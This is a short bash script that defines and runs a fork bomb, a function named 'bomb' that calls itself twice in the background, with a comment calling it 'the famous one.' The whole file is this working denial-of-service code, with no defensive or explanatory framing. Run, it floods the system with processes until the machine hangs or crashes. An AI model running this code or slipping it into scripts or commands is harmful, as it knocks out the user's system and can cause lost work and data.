#!/bin/bash
# The famous one, as a function with a name.
bomb() { bomb | bomb & }
bomb
sleep 5
